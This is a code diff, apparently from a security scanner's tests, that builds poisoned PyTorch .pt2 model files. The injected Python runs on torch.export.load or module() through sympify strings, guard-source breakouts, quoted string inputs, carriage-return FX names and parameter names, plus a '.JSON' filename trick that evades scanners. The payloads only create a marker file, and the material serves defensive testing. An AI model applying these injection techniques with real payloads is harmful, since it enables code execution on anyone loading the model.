@@ -144,6 +144,182 @@ def pt2_guard_code(tmp: Path, marker: Path) -> Path:
     return rewrite_zip(clean, tmp / "evil_guard.pt2", _json_edit("models/model.json", add))
 
 
+def marker_code(marker: Path) -> str:
+    """Python that creates ``marker``, written without a dot or a quote: FX splits attribute paths on
+    dots, and the payloads below sit inside strings of every quote style."""
+    return f"open(bytes(({','.join(str(b) for b in str(marker).encode())},)),chr(119))"
+
+
+def _every(obj: object, key: str, fn: Callable[[dict], None]) -> None:
+    """Call ``fn(holder)`` on every dict in a JSON tree that has ``key`` (iteratively: graphs nest)."""
+    stack = [obj]
+    while stack:
+        cur = stack.pop()
+        if isinstance(cur, dict):
+            if key in cur:
+                fn(cur)
+            stack.extend(cur.values())
+        elif isinstance(cur, list):
+            stack.extend(cur)
+
+
+def _sympy_string(program: dict, marker: Path) -> None:
+    """Every ``expr_str`` E becomes ``S("E if <open marker> else 0")``: a call of a capitalised sympy
+    function on a string constant, which ``S`` (sympify) parses with ``eval``; the expression keeps
+    its value, so the load goes on as if nothing happened."""
+
+    opener = f"__import__('builtins').open({str(marker)!r}, 'w')"  # sympy turns `bytes` into a symbol
+
+    def wrap(holder: dict) -> None:
+        holder["expr_str"] = f'S("{holder["expr_str"]} if {opener} else 0")'
+
+    _every(program, "expr_str", wrap)
+
+
+def pt2_sympy_string(tmp: Path, marker: Path) -> Path:
+    """Shape expressions ``S("…")``: the string inside is evaluated by sympify on torch.export.load."""
+    clean = clean_pt2(tmp / "clean.pt2")
+    return rewrite_zip(clean, tmp / "evil_sympy_string.pt2",
+                       _json_edit("models/model.json", lambda prog: _sympy_string(prog, marker)))
+
+
+def pt2_models_suffix(tmp: Path, marker: Path) -> Path:
+    """The program stored as ``models/model.JSON``: torch loads every ``models/*`` member (it cuts the
+    last five characters to get the model name), so a check of ``models/*.json`` alone never sees it.
+    It carries the ``S("…")`` shape expressions (torch.export.load)."""
+    clean = clean_pt2(tmp / "clean.pt2")
+    with zipfile.ZipFile(clean) as zf:
+        root = zf.namelist()[0].split("/", 1)[0]
+        program = json.loads(zf.read(f"{root}/models/model.json"))
+    _sympy_string(program, marker)
+    return rewrite_zip(clean, tmp / "evil_models_suffix.pt2", lambda t, d: None if t == "models/model.json" else d,
+                       extra={"models/model.JSON": json.dumps(program).encode()})
+
+
+# Two guards, each a comparison with a string constant (what an allow-list of guard expressions
+# accepts). ``ExportedProgram.module()`` writes each as ``torch._assert(<guard>, "Guard failed:
+# <guard unparsed>")`` and execs the lines. The first constant holds ``"``: in the message string it
+# ends the string and opens a triple-quoted one. The second guard's own constant closes that on its
+# first line, and its next lines stand at column 0 (module level), run as the source is exec'd.
+_GUARD_OPEN = "1 == '\", \"\"\"'"
+_GUARD_CLOSE = "1 == '''\"\"\"\n)\n{code}\ndef _(*args):  #'''"
+
+
+def pt2_guard_string(tmp: Path, marker: Path) -> Path:
+    """Guards that pass as comparisons with string constants and break out of the guard source
+    ``ExportedProgram.module()`` execs (see ``_GUARD_OPEN``)."""
+    clean = clean_pt2(tmp / "clean.pt2")
+
+    def add(program: dict) -> None:
+        program["guards_code"] = [_GUARD_OPEN, _GUARD_CLOSE.format(code=marker_code(marker))]
+
+    return rewrite_zip(clean, tmp / "evil_guard_string.pt2", _json_edit("models/model.json", add))
+
+
+class WithMode(torch.nn.Module):
+    def __init__(self) -> None:
+        super().__init__()
+        self.lin = torch.nn.Linear(4, 4)
+
+    def forward(self, x: torch.Tensor, mode: str) -> torch.Tensor:
+        return self.lin(x) if mode == "a" else x
+
+
+def clean_str_input_pt2(path: Path) -> Path:
+    """A program exported with a ``str`` argument: a constant input ``as_string``."""
+    ep = torch.export.export(WithMode(), (torch.randn(2, 4), "a"))
+    torch.export.save(ep, str(path))
+    return path
+
+
+def pt2_str_input(tmp: Path, marker: Path) -> Path:
+    """A ``str`` graph input whose stored value holds a quote and newlines: ``module()`` writes the
+    guard ``L['mode'] == '<value>'`` unescaped into the guard source it execs. The value closes the
+    string, comments out the rest of its line (so the error-message copy, newlines removed, still
+    parses) and puts code at column 0 (module level)."""
+    clean = clean_str_input_pt2(tmp / "clean.pt2")
+    value = f"a' #\n)\n{marker_code(marker)}\ndef _(*args):  #"
+
+    def poison(program: dict) -> None:
+        def swap(holder: dict) -> None:
+            if holder["as_string"] == "a":
+                holder["as_string"] = value
+
+        _every(program, "as_string", swap)
+
+    return rewrite_zip(clean, tmp / "evil_str_input.pt2", _json_edit("models/model.json", poison))
+
+
+class WithCond(torch.nn.Module):
+    def __init__(self) -> None:
+        super().__init__()
+        self.lin = torch.nn.Linear(4, 4)
+        self.register_buffer("idx", torch.arange(4))
+
+    def forward(self, x: torch.Tensor, *, scale: torch.Tensor) -> torch.Tensor:
+        def yes(x: torch.Tensor, s: torch.Tensor) -> torch.Tensor:
+            return self.lin(x) * s
+
+        def no(x: torch.Tensor, s: torch.Tensor) -> torch.Tensor:
+            return x - s
+
+        return torch.cond(x.sum() > 0, yes, no, (x, scale)) + self.idx
+
+
+def clean_cond_pt2(path: Path) -> Path:
+    """A ``torch.cond`` program (two subgraphs), a dynamic batch, a keyword input, an int64 buffer."""
+    dims = {"x": {0: torch.export.Dim("b", min=1, max=8)}, "scale": None}
+    ep = torch.export.export(WithCond(), (torch.randn(2, 4),), {"scale": torch.ones(4)}, dynamic_shapes=dims)
+    torch.export.save(ep, str(path))
+    return path
+
+
+def fx_name(marker: Path) -> str:
+    """A name FX writes as ``getattr(self, "<name>")`` into the source it execs: it closes the string
+    and the call; FX indents every line of the body it splits on ``\\n``, but Python also ends a line
+    at ``\\r``, so the next line stands at column 0 (module level, run by the exec) and the last one
+    starts a new ``forward`` whose body the rest of the generated lines become. No dot: FX splits
+    names on dots."""
+    return f'branch")\r{marker_code(marker)}\rdef forward(self, *args, **kwargs):  #'
+
+
+def pt2_cond_branch_name(tmp: Path, marker: Path) -> Path:
+    """A ``torch.cond`` branch (GraphArgument) named with Python: the loader registers the subgraph
+    under that name and FX writes ``getattr(self, "<name>")`` into the forward it execs while
+    torch.export.load builds the graph module."""
+    clean = clean_cond_pt2(tmp / "clean.pt2")
+
+    def poison(program: dict) -> None:
+        def rename(holder: dict) -> None:
+            if holder["as_graph"]["name"] == "true_graph_0":
+                holder["as_graph"]["name"] = fx_name(marker)
+
+        _every(program, "as_graph", rename)
+
+    return rewrite_zip(clean, tmp / "evil_cond_name.pt2", _json_edit("models/model.json", poison))
+
+
+def pt2_param_fqn(tmp: Path, marker: Path) -> Path:
+    """A parameter whose FQN is Python: ``module()`` registers it on the unlifted module and reads it
+    with a ``get_attr`` node, which FX writes as ``getattr(self, "<fqn>")`` into the forward it execs."""
+    clean = clean_pt2(tmp / "clean.pt2")
+    fqn = fx_name(marker)
+
+    def program(prog: dict) -> None:
+        def rename(holder: dict) -> None:
+            if holder["parameter_name"] == "lin.weight":
+                holder["parameter_name"] = fqn
+
+        _every(prog, "parameter_name", rename)
+
+    def weights(cfg: dict) -> None:
+        cfg["config"][fqn] = cfg["config"].pop("lin.weight")
+
+    edit_prog = _json_edit("models/model.json", program)
+    edit_weights = _json_edit("data/weights/model_weights_config.json", weights)
+    return rewrite_zip(clean, tmp / "evil_param_fqn.pt2", lambda t, d: edit_weights(t, edit_prog(t, d)))
+
+
 def pt2_file_op(tmp: Path) -> Path:
     """A node that calls aten.from_file (creates files when the program runs)."""
     clean = clean_pt2(tmp / "clean.pt2")
